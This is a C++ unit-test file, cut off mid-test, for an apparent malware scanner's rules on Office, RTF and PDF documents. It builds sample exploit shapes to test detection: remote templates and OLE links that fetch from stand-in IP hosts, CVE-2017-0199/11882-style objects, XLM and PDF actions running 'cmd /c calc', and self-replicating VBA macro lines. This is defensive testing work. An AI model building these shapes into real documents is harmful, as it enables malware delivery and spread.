// The document rules for the shapes the model cannot learn from one or two sources (features::office_rule,
// docs/office.md "Rules") and the schema v3 `active` features under them, on inputs built here: OOXML packages
// with remote templates and XLM macro sheets, RTF objects (Equation Editor, OLE2Link with a URL moniker, objects
// whose data is not OLE1, packaged executables) and PDFs with actions and embedded files. Each rule has a twin
// input that differs in the one thing the rule keys on and must not be named.
#include <gtest/gtest.h>

#include <array>
#include <string>
#include <vector>

#include "features/office_features.hpp"
#include "formats/xls/xls.hpp"
#include "support/archive_builder.hpp"
#include "support/biff_builder.hpp"
#include "support/cfb_builder.hpp"
#include "support/office_sample.hpp"
#include "support/ooxml_builder.hpp"
#include "support/pdf_builder.hpp"
#include "support/rtf_builder.hpp"

namespace {

using namespace mamori;
using namespace mamori::test;

// A docx without macros whose settings part attaches the template at `target`.
std::vector<std::uint8_t> docx_with_template(const std::string& target) {
  return make_zip({{"[Content_Types].xml", blob(kWordContentTypes)},
                   {"word/document.xml", blob("<w:document xmlns:w=\"w\"><w:body><w:p/></w:body></w:document>")},
                   {"word/settings.xml", blob("<w:settings xmlns:w=\"w\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>")},
                   {"word/_rels/settings.xml.rels", blob(attached_template_rels(target))}});
}

TEST(OfficeRules, RemoteTemplateOnAWebHost) {
  const auto s = featurize(docx_with_template("http://203.0.113.7/office/report.dotm"));
  EXPECT_EQ(s.doc_type, "ooxml-word");
  EXPECT_EQ(feature(s, "ooxml.remote_template"), 1.0f);
  EXPECT_EQ(feature(s, "active.remote_template_web"), 1.0f);
  EXPECT_EQ(feature(s, "active.external_ip_hosts"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "remote-template");
  const auto named = featurize(docx_with_template("https://cdn.example-templates.test/a/b.dotx?x=1"));
  EXPECT_EQ(feature(named, "active.external_ip_hosts"), 0.0f);
  EXPECT_EQ(features::office_rule(named.x), "remote-template");
}

// What benign documents carry: the template they were made from, on the author's disk, on a share, or on
// Microsoft's template service. Counted (the model sees them), never the rule.
TEST(OfficeRules, LocalShareAndMicrosoftTemplatesAreNotTheRule) {
  for (const char* t : {"file:///C:\\Users\\kim\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
                        "https://templates.office.com/en-us/resume.dotx",
                        "http://download.microsoft.com/templates/x.dotx"}) {
    const auto s = featurize(docx_with_template(t));
    EXPECT_EQ(feature(s, "ooxml.remote_template"), 1.0f) << t;
    EXPECT_EQ(feature(s, "active.remote_template_web"), 0.0f) << t;
    EXPECT_EQ(features::office_rule(s.x), "") << t;
  }
  const auto share = featurize(docx_with_template("file://fileserver/templates/letter.dotx"));
  EXPECT_EQ(feature(share, "active.remote_template_unc"), 1.0f);
  EXPECT_EQ(feature(share, "active.remote_template_web"), 0.0f);
  EXPECT_EQ(features::office_rule(share.x), "");
  // A look-alike host is not Microsoft's.
  const auto lookalike = featurize(docx_with_template("https://office.com.example.test/t.dotm"));
  EXPECT_EQ(features::office_rule(lookalike.x), "remote-template");
}

// A docx whose `rels_part` holds one external relationship of `type` (oleObject, frame, subDocument) to `target`.
std::vector<std::uint8_t> docx_with_external(const std::string& rels_part, const std::string& type,
                                             const std::string& target) {
  const std::string rels =
      "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
      "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + type +
      "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>";
  return make_zip({{"[Content_Types].xml", blob(kWordContentTypes)},
                   {"word/document.xml", blob("<w:document xmlns:w=\"w\"><w:body><w:p/></w:body></w:document>")},
                   {rels_part, blob(rels)}});
}

TEST(OfficeRules, ObjectOrFrameLinkedToAWebHost) {
  const auto ole = featurize(docx_with_external("word/_rels/document.xml.rels", "oleObject", "http://198.51.100.9/jsp/order.doc"));
  EXPECT_EQ(feature(ole, "active.external_object_untrusted"), 1.0f);
  EXPECT_EQ(features::office_rule(ole.x), "remote-object-link");
  const auto frame = featurize(docx_with_external("word/_rels/webSettings.xml.rels", "frame", "https://cdn.example.test/nd.dot"));
  EXPECT_EQ(features::office_rule(frame.x), "remote-object-link");
}

// An external OLE object or frame resolved through a script moniker: the PowerPoint show of CVE-2017-0199/8570
// ("%73cript:%68ttp://...", percent-escaped so that plain matching misses it), "mhtml:...!x-usc:" (CVE-2021-40444).
// The twins link the same host as a plain URL, a workbook on a drive, or a hyperlink with the script moniker.
TEST(OfficeRules, ObjectLinkedThroughAScriptMoniker) {
  const auto script = featurize(docx_with_external("word/_rels/document.xml.rels", "oleObject", "%73cript:%68ttp://198.51.100.4:1234/qq"));
  EXPECT_EQ(script.structural_rule, "script-moniker-link");
  EXPECT_EQ(features::office_rule(script.x), "");  // not a web host for the vector rule
  const auto mhtml = featurize(docx_with_external("word/_rels/document.xml.rels", "oleObject",
                                                  "MHTML:http://198.51.100.4/a.html!x-usc:http://198.51.100.4/a.html"));
  EXPECT_EQ(mhtml.structural_rule, "script-moniker-link");
  const auto frame = featurize(docx_with_external("word/_rels/webSettings.xml.rels", "frame", " scriptlet:http://198.51.100.4/f"));
  EXPECT_EQ(frame.structural_rule, "script-moniker-link");

  EXPECT_EQ(featurize(docx_with_external("word/_rels/document.xml.rels", "oleObject", "http://198.51.100.4:1234/qq")).structural_rule, "");
  EXPECT_EQ(featurize(docx_with_external("word/_rels/document.xml.rels", "oleObject", "file:///G:\\MISC\\table.xls")).structural_rule, "");
  EXPECT_EQ(featurize(docx_with_external("word/_rels/document.xml.rels", "hyperlink", "%73cript:%68ttp://198.51.100.4/qq")).structural_rule, "");
  EXPECT_EQ(featurize(docx_with_external("word/_rels/document.xml.rels", "oleObject", "%7")).structural_rule, "");
}

// A chart or workbook linked from a file server, a Microsoft host, or a plain hyperlink: not the rule.
TEST(OfficeRules, ObjectLinkedFromAShareOrMicrosoftIsNotTheRule) {
  const auto share = featurize(docx_with_external("word/_rels/document.xml.rels", "oleObject", "file://fileserver/finance/q3.xlsx"));
  EXPECT_EQ(feature(share, "active.external_object_untrusted"), 1.0f);  // counted for the model
  EXPECT_EQ(features::office_rule(share.x), "");
  const auto ms = featurize(docx_with_external("word/_rels/document.xml.rels", "oleObject", "https://templates.office.com/a.xlsx"));
  EXPECT_EQ(features::office_rule(ms.x), "");
  const auto link = featurize(docx_with_external("word/_rels/document.xml.rels", "hyperlink", "http://198.51.100.9/a.doc"));
  EXPECT_EQ(features::office_rule(link.x), "");
}

// An XLSM whose macro sheet decodes its formulas from CHAR() at run time: no EXEC in the file, only FORMULA()
// writing text built from characters and a GOTO to it.
std::vector<std::uint8_t> xlsm_decoder(bool auto_open) {
  std::string chars;
  for (int i = 0; i < 20; ++i) chars += (i ? "&" : "") + std::string("CHAR(") + std::to_string(65 + i) + ")";
  const std::string cells = "<c r=\"A1\"><f>FORMULA(" + chars + ",B1)</f></c><c r=\"A2\"><f>GOTO(B1)</f></c>";
  return make_zip({{"[Content_Types].xml", blob("<Types/>")},
                   {"xl/workbook.xml", blob(macro_workbook_xml("hidden", auto_open ? AutoOpenName::visible
                                                                                   : AutoOpenName::none))},
                   {"xl/_rels/workbook.xml.rels", blob(kMacroWorkbookRels)},
                   {"xl/macrosheets/sheet1.xml", blob(macrosheet_xml(cells))}});
}

TEST(OfficeRules, XlmThatDecodesItsFormulasInOoxml) {
  const auto s = featurize(xlsm_decoder(true));
  EXPECT_EQ(feature(s, "xlm.macro_sheets"), 1.0f);
  EXPECT_EQ(feature(s, "xlm.auto_open_names"), 1.0f);
  EXPECT_EQ(feature(s, "xlm.exec") + feature(s, "xlm.call") + feature(s, "xlm.register"), 0.0f);
  EXPECT_GE(feature(s, "xlm.char"), 16.0f);
  EXPECT_EQ(features::office_rule(s.x), "xlm-auto-exec");
  // The same sheet that nothing starts.
  const auto idle = featurize(xlsm_decoder(false));
  EXPECT_EQ(feature(idle, "xlm.auto_open_names"), 0.0f);
  EXPECT_EQ(features::office_rule(idle.x), "");
}

// A workbook whose VBA starts on open and whose macro sheet holds `formula` (no Auto_Open name).
std::vector<std::uint8_t> xlsm_vba_and_sheet(const std::string& formula) {
  VbaSpec v;
  v.modules = {{"ThisWorkbook",
                "Attribute VB_Name = \"ThisWorkbook\"\r\nPrivate Sub Workbook_Open()\r\n  Run \"M!A1\"\r\nEnd Sub\r\n",
                std::vector<std::uint8_t>(64, 0), false}};
  const auto bin = build_vba_project_bin(v);
  return make_zip({{"[Content_Types].xml", blob("<Types/>")},
                   {"xl/workbook.xml", blob(macro_workbook_xml("veryHidden", AutoOpenName::none))},
                   {"xl/_rels/workbook.xml.rels", blob(kMacroWorkbookRels)},
                   {"xl/macrosheets/sheet1.xml", blob(macrosheet_xml("<c r=\"A1\"><f>" + formula + "</f></c>"))},
                   {"xl/vbaProject.bin", bin}});
}

// Droppers that hide the XLM behind a Workbook_Open; Microsoft's Solver add-in has the same frame and REGISTERs
// its DLL from the macro sheet, so only EXEC, a download or the decoding shape make it the rule.
TEST(OfficeRules, XlmStartedByVba) {
  const auto dropper = featurize(xlsm_vba_and_sheet("EXEC(\"cmd /c calc\")"));
  EXPECT_GT(feature(dropper, "macro.autoexec"), 0.0f);
  EXPECT_EQ(feature(dropper, "xlm.auto_open_names"), 0.0f);
  EXPECT_EQ(feature(dropper, "xlm.exec"), 1.0f);
  EXPECT_EQ(features::office_rule(dropper.x), "xlm-auto-exec");
  const auto solver = featurize(xlsm_vba_and_sheet("REGISTER(\"SOLVER32.DLL\",\"Solve\",\"JJ\")"));
  EXPECT_GT(feature(solver, "macro.autoexec"), 0.0f);
  EXPECT_EQ(feature(solver, "xlm.register"), 1.0f);
  EXPECT_EQ(features::office_rule(solver.x), "");
}

// An .xlsm whose VBA project holds one standard module with `code` (lines joined with CRLF).
std::vector<std::uint8_t> xlsm_with_module(const std::vector<std::string>& code) {
  std::string src = "Attribute VB_Name = \"Module1\"\r\n";
  for (const auto& l : code) src += l + "\r\n";
  VbaSpec v;
  v.modules = {{"Module1", src, std::vector<std::uint8_t>(64, 0), true}};
  return make_zip({{"[Content_Types].xml", blob("<Types/>")},
                   {"xl/workbook.xml", blob("<workbook><sheets><sheet name=\"S\" sheetId=\"1\"/></sheets></workbook>")},
                   {"xl/vbaProject.bin", build_vba_project_bin(v)}});
}

// Schema v4 `spread`: an Excel virus that hooks every sheet activation (Excel 5's Application.OnSheetActivate) and
// saves itself into the Excel folder, and one that exports its module and imports it into the active workbook.
// Neither uses the words of the older replication rule's second half (no stealth, no XLSTART/PERSONAL.XLS text).
TEST(OfficeRules, MacroThatSpreadsInTwoWays) {
  const auto hook = featurize(xlsm_with_module({"Sub auto_open()", "  Application.OnSheetActivate = \"infect\"",
                                                "End Sub", "Sub infect()",
                                                "  ThisWorkbook.SaveAs Application.Path & \"\\book.xls\"", "End Sub"}));
  EXPECT_EQ(feature(hook, "spread.event_hook_lines"), 1.0f);
  EXPECT_EQ(feature(hook, "spread.save_to_startup_lines"), 1.0f);
  EXPECT_EQ(feature(hook, "spread.kinds"), 2.0f);
  EXPECT_EQ(feature(hook, "behaviour.stealth") + feature(hook, "behaviour.startup_paths"), 0.0f);
  EXPECT_EQ(features::office_rule(hook.x), "macro-replication");

  const auto copy = featurize(xlsm_with_module(
      {"Sub Workbook_Deactivate()", "  ThisWorkbook.VBProject.VBComponents(\"M\").Export \"c:\\m.bas\"",
       "  ActiveWorkbook.VBProject.VBComponents.Import \"c:\\m.bas\"", "End Sub"}));
  EXPECT_EQ(feature(copy, "spread.self_read_lines"), 1.0f);
  EXPECT_EQ(feature(copy, "spread.inject_lines"), 1.0f);
  EXPECT_EQ(feature(copy, "spread.kinds"), 2.0f);
  EXPECT_EQ(features::office_rule(copy.x), "macro-replication");
}

// What VBA developer tools and add-in installers do: one kind of spreading (import modules into the workbook the
// user picked; save an add-in into the Excel folder). Words in strings and comments are not code.
TEST(OfficeRules, OneWayOfSpreadingIsNotTheRule) {
  const auto tool = featurize(xlsm_with_module({"Sub ImportModules()",
                                                "  ActiveWorkbook.VBProject.VBComponents.Import \"c:\\src\\a.bas\"",
                                                "End Sub"}));
  EXPECT_EQ(feature(tool, "spread.inject_lines"), 1.0f);
  EXPECT_EQ(feature(tool, "spread.kinds"), 1.0f);
  EXPECT_EQ(features::office_rule(tool.x), "");
  const auto words = featurize(xlsm_with_module(
      {"Sub Help()", "  MsgBox \"Application.OnSheetActivate = x\"", "  ' ThisWorkbook.SaveAs Application.Path",
       "  ThisWorkbook.SaveAs \"c:\\out\\book.xls\"", "End Sub"}));
  EXPECT_EQ(feature(words, "spread.event_hook_lines"), 0.0f);
  EXPECT_EQ(feature(words, "spread.save_to_startup_lines"), 0.0f);
  EXPECT_EQ(feature(words, "spread.kinds"), 0.0f);
  EXPECT_EQ(features::office_rule(words.x), "");
}

// The Laroux move alone: a workbook that saves itself into Excel's start-up folder when it opens. The same save
// behind a button, or an open handler that saves elsewhere, is not the rule.
TEST(OfficeRules, OpenHandlerSavingIntoStartupFolder) {
  const auto virus = featurize(xlsm_with_module({"Private Sub Workbook_Open()",
                                                 "  ThisWorkbook.SaveAs Filename:=Application.StartupPath & \"\\book1.xls\"",
                                                 "End Sub"}));
  EXPECT_EQ(feature(virus, "spread.save_to_startup_lines"), 1.0f);
  EXPECT_EQ(feature(virus, "spread.kinds"), 1.0f);
  EXPECT_EQ(features::office_rule(virus.x), "macro-replication");
  const auto button = featurize(xlsm_with_module({"Sub InstallButton_Click()",
                                                  "  ThisWorkbook.SaveAs Filename:=Application.StartupPath & \"\\tools.xls\"",
                                                  "End Sub"}));
  EXPECT_EQ(feature(button, "spread.save_to_startup_lines"), 1.0f);
  EXPECT_EQ(features::office_rule(button.x), "");
  const auto elsewhere = featurize(xlsm_with_module({"Private Sub Workbook_Open()",
                                                     "  ThisWorkbook.SaveAs Filename:=\"c:\\reports\\book1.xls\"",
                                                     "End Sub"}));
  EXPECT_EQ(feature(elsewhere, "spread.save_to_startup_lines"), 0.0f);
  EXPECT_EQ(features::office_rule(elsewhere.x), "");
}

std::vector<std::uint8_t> filler(std::size_t n) {
  std::vector<std::uint8_t> v(n);
  for (std::size_t i = 0; i < n; ++i) v[i] = static_cast<std::uint8_t>(i * 7 + 3);
  return v;
}

TEST(OfficeRules, EquationEditorObjectLoadedOnOpen) {
  const auto data = ole1_embedded("Equation.3", filler(3000));
  const auto s = featurize(rtf_object("Equation.3", rtf_hex(data, HexStyle::obfuscated), "\\objupdate"));
  EXPECT_EQ(s.doc_type, "rtf");
  EXPECT_EQ(feature(s, "active.rtf_equation_autoload"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "rtf-exploit-object");
  // The same object that waits for a double click, and a tiny declared-only one that updates (oletools' test
  // file has that shape): counted as Equation objects, not the rule.
  const auto click = featurize(rtf_object("Equation.3", rtf_hex(data, HexStyle::plain)));
  EXPECT_EQ(feature(click, "rtf.class_equation"), 1.0f);
  EXPECT_EQ(features::office_rule(click.x), "");
  const auto tiny = featurize(rtf_embedded_object("Equation.3", filler(100), "\\objupdate"));
  EXPECT_EQ(feature(tiny, "active.rtf_equation_autoload"), 0.0f);
  EXPECT_EQ(features::office_rule(tiny.x), "");
}

// The Equation Editor 3.0 class as a compound file stores it ({0002CE02-0000-0000-C000-000000000046}).
constexpr std::array<std::uint8_t, 16> kEquation3 = {0x02, 0xCE, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46};

// An embedded object (an OOXML oleObject*.bin) of the Equation class holding `streams`.
std::vector<std::uint8_t> equation_object(std::vector<CfbStream> streams) {
  CfbSpec s;
  s.streams = std::move(streams);
  s.clsids[""] = kEquation3;
  return build_cfb(s);
}

// EQNOLEFILEHDR (28 bytes, cbHdr 0x1C) and an MTEF v3 header, then FULL, LINE and a FONT record with `face`.
std::vector<std::uint8_t> equation_native(const std::string& face) {
  std::vector<std::uint8_t> b(28, 0);
  b[0] = 0x1C;
  b[4] = 0x02;  // version 0x00020000
  for (std::uint8_t x : {0x03, 0x01, 0x01, 0x03, 0x0A, 0x0A, 0x01, 0x08, 0x5A, 0x5A}) b.push_back(x);
  b.insert(b.end(), face.begin(), face.end());
  b.push_back(0);
  for (std::uint8_t x : {0x02, 0x83, 0x61, 0x00, 0x00, 0x00}) b.push_back(x);  // CHAR 'a', END
  return b;
}

bool has_anomaly(const features::OfficeSample& s, const std::string& prefix) {
  for (const auto& a : s.anomalies)
    if (a.rfind(prefix, 0) == 0) return true;
  return false;
}

// The 2020-2023 xlsx droppers (GuLoader, AgentTesla, Formbook): an Equation object whose data sits in an Ole10Native
// stream named in random case, which exact-name scanners and our own reader missed. Word's conversions of OLE1
// equations keep a few dozen bytes there under the canonical name (Apache POI's test files): not the rule.
TEST(OfficeRules, EquationObjectWithNativeDataInRandomCase) {
  const auto exploit = featurize(equation_object({{"\x01oLE10natiVe", filler(2228)}}));
  EXPECT_EQ(exploit.structural_rule, "equation-exploit-object");
  EXPECT_TRUE(has_anomaly(exploit, "ole2.stream_name_case_altered"));
  EXPECT_EQ(feature(exploit, "ole2.ole10native"), 1.0f);  // read as Office reads it, whatever the case
  const auto big = featurize(equation_object({{"\x01Ole10Native", filler(4096)}}));
  EXPECT_EQ(big.structural_rule, "equation-exploit-object");
  EXPECT_FALSE(has_anomaly(big, "ole2.stream_name_case_altered"));

  const auto converted = featurize(equation_object({{"\x01Ole10Native", filler(40)},
                                                    {"\x01Ole10FmtProgID", filler(13)},
                                                    {"\x01" "CompObj", filler(82)}}));
  EXPECT_EQ(converted.structural_rule, "");
  CfbSpec packager;  // the same big native data in a storage of another class: a package, not the editor's
  packager.streams = {{"\x01Ole10Native", filler(4096)}};
  EXPECT_EQ(featurize(build_cfb(packager)).structural_rule, "");
}

// CVE-2017-11882: an MTEF FONT record whose face name overruns the editor's buffer; no font name is longer than
// 31 characters (LF_FACESIZE). Real equations (the corpus has 164, of 44 to 399 bytes) name real fonts.
TEST(OfficeRules, EquationNativeWithAnImpossibleFontName) {
  const std::string overflow = "cmd.exe /c calc.exe AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x12\x45\x43";
  const auto s = featurize(equation_object({{"Equation Native", equation_native(overflow)}}));
  EXPECT_EQ(s.structural_rule, "equation-exploit-object");
  auto unterminated = equation_native(std::string(200, 'A'));
  unterminated.resize(28 + 10 + 150);  // the name runs to the end of the stream
  EXPECT_EQ(featurize(equation_object({{"Equation Native", unterminated}})).structural_rule, "equation-exploit-object");
  EXPECT_EQ(featurize(equation_object({{"Equation Native", equation_native("Times New Roman")}})).structural_rule, "");
  EXPECT_EQ(featurize(equation_object({{"Equation Native", equation_native(std::string(31, 'M'))}})).structural_rule, "");
  // Truncated or foreign data is not read past its end and is not the rule.
  EXPECT_EQ(featurize(equation_object({{"Equation Native", std::vector<std::uint8_t>(30, 0x1C)}})).structural_rule, "");
}

// Through the engine: the workbook that embeds such an object is malicious by its member, named by the rule.
TEST(OfficeRules, WorkbookEmbeddingAnEquationExploitIsMalicious) {
  auto sc = office_scanner();
  if (!sc) GTEST_SKIP() << "models/office not found";
  const auto bin = equation_object({{"\x01OLe10NAtIVE", filler(2228)}});
  const auto xlsx = make_zip({{"[Content_Types].xml", blob("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                                                          "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/"
                                                          "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>")},
                              {"xl/workbook.xml", blob("<workbook><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>")},
                              {"xl/embeddings/oleObject1.bin", bin}});
  const auto r = sc->scan_bytes(ByteView(xlsx.data(), xlsx.size()), "order.xlsx");
  EXPECT_EQ(r.verdict, engine::Verdict::malicious) << r.signature;
  bool named = false;
  for (const auto& m : r.members)
    for (const auto& [k, v] : m.context) named |= k == "rule" && v == "equation-exploit-object";
  EXPECT_TRUE(named);
}

// A PE image: "MZ", e_lfanew 0x80 and the "PE\0\0" signature there, padded to `n` bytes.
std::vector<std::uint8_t> tiny_pe(std::size_t n) {
  std::vector<std::uint8_t> b(n, 0);
  b[0] = 'M';
  b[1] = 'Z';
  b[0x3C] = 0x80;
  b[0x80] = 'P';
  b[0x81] = 'E';
  return b;
}

// `pe` written into `host` at `at`.
std::vector<std::uint8_t> with_pe(std::vector<std::uint8_t> host, std::size_t at, const std::vector<std::uint8_t>& pe) {
  std::copy(pe.begin(), pe.end(), host.begin() + static_cast<std::ptrdiff_t>(at));
  return host;
}

// The 2006-2010 exploit documents (Trojan-Dropper.MSWord/MSPPoint/MSExcel) keep their program in clear inside the
// document's own streams, in free sectors or after the last sector; Office only packages one as an object, in a
// storage of its own. The twin holds the same bytes in an ObjectPool object and is not named.
TEST(OfficeRules, ExecutableOutsideAnyObject) {
  const auto pe = tiny_pe(1024);
  CfbSpec inside;
  inside.streams = {{"WordDocument", with_pe(filler(8192), 3000, pe)}, {"1Table", filler(4096)}};
  const auto s = featurize(build_cfb(inside));
  EXPECT_EQ(s.doc_type, "ole2-word");
  EXPECT_EQ(s.structural_rule, "executable-outside-objects");
  EXPECT_TRUE(has_anomaly(s, "ole2.executable_outside_objects"));

  CfbSpec plain;
  plain.streams = {{"WordDocument", filler(8192)}, {"1Table", filler(4096)}};
  auto appended = build_cfb(plain);  // the program after the last sector, where no stream reaches
  EXPECT_EQ(featurize(appended).structural_rule, "");
  appended.insert(appended.end(), pe.begin(), pe.end());
  EXPECT_EQ(featurize(appended).structural_rule, "executable-outside-objects");

  CfbSpec object;  // the same program packaged as Office packages it: an embedded object's stream
  object.streams = {{"WordDocument", filler(8192)}, {"1Table", filler(4096)},
                    {"ObjectPool/_1234567890/\x01Ole10Native", with_pe(filler(8192), 3000, pe)}};
  const auto o = featurize(build_cfb(object));
  EXPECT_EQ(o.doc_type, "ole2-word");
  EXPECT_EQ(o.structural_rule, "");
  auto broken = tiny_pe(1024);  // "MZ" whose e_lfanew does not reach a PE signature is not a program
  broken[0x81] = 'X';
  inside.streams[0].data = with_pe(filler(8192), 3000, broken);
  EXPECT_EQ(featurize(build_cfb(inside)).structural_rule, "");
}

// CVE-2017-0199's shape: an OLE2Link object whose \x01Ole stream holds a URL moniker, refreshed on open.
TEST(OfficeRules, Ole2LinkUrlMonikerUpdatedOnOpen) {
  std::vector<std::uint8_t> ole(20, 0);
  const std::uint8_t url_moniker[16] = {0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11,
                                        0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B};
  ole.insert(ole.end(), std::begin(url_moniker), std::end(url_moniker));
  for (char c : std::string("http://203.0.113.9/x.hta")) ole.insert(ole.end(), {static_cast<std::uint8_t>(c), 0});
  CfbSpec spec;
  spec.streams = {{"\x01Ole", ole}};
  const auto native = build_cfb(spec);
  const auto s = featurize(rtf_embedded_object("Word.Document.8", native, "\\objupdate"));
  EXPECT_EQ(feature(s, "active.rtf_link_moniker"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "rtf-exploit-object");
  const auto no_update = featurize(rtf_embedded_object("Word.Document.8", native));
  EXPECT_EQ(feature(no_update, "active.rtf_link_moniker"), 1.0f);
  EXPECT_EQ(features::office_rule(no_update.x), "");
}

TEST(OfficeRules, UpdatedObjectWhoseDataIsNotOle1) {
  const auto s = featurize(rtf_object("Word.Document.8", rtf_hex(filler(600), HexStyle::plain), "\\objupdate"));
  EXPECT_EQ(feature(s, "active.rtf_update_malformed"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "rtf-exploit-object");
  const auto ok = featurize(rtf_embedded_object("Word.Document.8", filler(600), "\\objupdate"));
  EXPECT_EQ(feature(ok, "active.rtf_update_malformed"), 0.0f);
  EXPECT_EQ(features::office_rule(ok.x), "");
}

TEST(OfficeRules, PackagedExecutableInRtf) {
  std::vector<std::uint8_t> pe{'M', 'Z'};
  pe.resize(512, 0x90);
  const auto native = package_native("invoice.exe", "C:\\t\\invoice.exe", "C:\\Temp\\invoice.exe", pe);
  const auto s = featurize(rtf_embedded_object("Package", native));
  EXPECT_EQ(feature(s, "active.rtf_executable_object"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "packaged-executable");
  const auto txt = package_native("notes.txt", "C:\\t\\notes.txt", "C:\\Temp\\notes.txt", blob("plain text"));
  const auto t = featurize(rtf_embedded_object("Package", txt));
  EXPECT_EQ(feature(t, "active.rtf_executable_object"), 0.0f);
  EXPECT_EQ(features::office_rule(t.x), "");
}

TEST(OfficeRules, PdfActionsEmbeddedFilesAndLinks) {
  PdfSpec p;
  p.objects = {PdfObject("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles 6 0 R >> >>"),
               PdfObject("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
               PdfObject("<< /Type /Page /Parent 2 0 R /Annots [5 0 R] >>"),
               PdfObject("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
               PdfObject("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://198.51.100.4/get/setup.exe) >> >>"),
               PdfObject("<< /Names [(a.exe) 7 0 R] >>"),
               PdfObject("<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>"),
               PdfObject("<< /Type /EmbeddedFile >>", "MZ" + std::string(300, '\x90'), true, true)};
  const auto s = featurize(build_pdf(p));
  EXPECT_EQ(s.doc_type, "pdf");
  EXPECT_EQ(feature(s, "active.pdf_auto_javascript"), 1.0f);
  EXPECT_EQ(feature(s, "active.pdf_auto_launch"), 0.0f);
  EXPECT_EQ(feature(s, "active.pdf_embedded_executable"), 1.0f);
  EXPECT_EQ(feature(s, "active.pdf_uri_hosts"), 1.0f);
  EXPECT_EQ(feature(s, "active.pdf_uri_ip_hosts"), 1.0f);
  EXPECT_EQ(feature(s, "active.pdf_uri_executables"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "packaged-executable");
  // JavaScript on open alone is the model's to weigh (forms use it), not a rule.
  p.objects.back() = PdfObject("<< /Type /EmbeddedFile >>", "just a text attachment", true, true);
  const auto quiet = featurize(build_pdf(p));
  EXPECT_EQ(feature(quiet, "active.pdf_embedded_executable"), 0.0f);
  EXPECT_EQ(features::office_rule(quiet.x), "");
}

TEST(OfficeRules, PdfLaunchOnOpen) {
  PdfSpec p;
  p.objects = {PdfObject("<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"),
               PdfObject("<< /Type /Pages /Kids [] /Count 0 >>"),
               PdfObject("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")};
  const auto s = featurize(build_pdf(p));
  EXPECT_EQ(feature(s, "active.pdf_auto_launch"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "pdf-auto-launch");
  // The same action behind nothing that fires it on open.
  p.objects[0] = PdfObject("<< /Type /Catalog /Pages 2 0 R >>");
  const auto idle = featurize(build_pdf(p));
  EXPECT_EQ(feature(idle, "active.pdf_auto_launch"), 0.0f);
  EXPECT_EQ(features::office_rule(idle.x), "");
}

// Groups of other formats are NaN, so no rule fires on a type it was not written for.
TEST(OfficeRules, ActiveGroupIsMissingForOtherTypes) {
  const auto s = featurize(docx_with_template("http://203.0.113.7/t.dotm"));
  EXPECT_TRUE(std::isnan(feature(s, "active.rtf_equation_autoload")));
  EXPECT_TRUE(std::isnan(feature(s, "active.pdf_embedded_executable")));
  const auto r = featurize(rtf_object("Package", rtf_hex(filler(10), HexStyle::plain)));
  EXPECT_TRUE(std::isnan(feature(r, "active.remote_template_web")));
}


// An RTF whose OLE2Link object resolves a URL moniker on open (the shape of CVE-2017-0199 and of RomCom's chunk):
// named by `rtf-exploit-object` when scanned as an RTF.
std::string rtf_link_exploit() {
  std::vector<std::uint8_t> ole(20, 0);
  const std::uint8_t url_moniker[16] = {0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11,
                                        0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B};
  ole.insert(ole.end(), std::begin(url_moniker), std::end(url_moniker));
  for (char c : std::string("http://203.0.113.9/file001.url")) ole.insert(ole.end(), {static_cast<std::uint8_t>(c), 0});
  CfbSpec spec;
  spec.streams = {{"\x01Ole", ole}};
  return rtf_embedded_object("Word.Document.8", build_cfb(spec), "\\objupdate");
}

// A docx whose body imports `chunk_part` through w:altChunk (relationship type aFChunk, Target `target`), the part
// (`chunk_first`) before or after the relationships part in the zip.
std::vector<std::uint8_t> docx_with_chunk(const std::string& chunk_part, const std::string& target, const std::string& chunk,
                                          bool chunk_first = true) {
  const std::string rels =
      "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
      "<Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk\" Target=\"" +
      target + "\" Id=\"AltChunkId5\"/></Relationships>";
  std::vector<ZipItem> items = {{"[Content_Types].xml", blob(kWordContentTypes)},
                                {"word/document.xml", blob("<w:document xmlns:w=\"w\"><w:body><w:altChunk r:id=\"AltChunkId5\"/></w:body></w:document>")}};
  if (chunk_first) items.push_back({chunk_part, blob(chunk)});
  items.push_back({"word/_rels/document.xml.rels", blob(rels)});
  if (!chunk_first) items.push_back({chunk_part, blob(chunk)});
  return make_zip(items);
}

// CVE-2023-36884 (RomCom): the exploit is an RTF imported as an altChunk. The chunk is handed to the engine as a
// member and scanned as the RTF it is; the docx's own vector does not change (the same bytes as an image give the
// same vector but no member), so the shipped model keeps its figures.
TEST(OfficeRules, AltChunkRtfIsScannedAsAnRtf) {
  const std::string rtf = rtf_link_exploit();
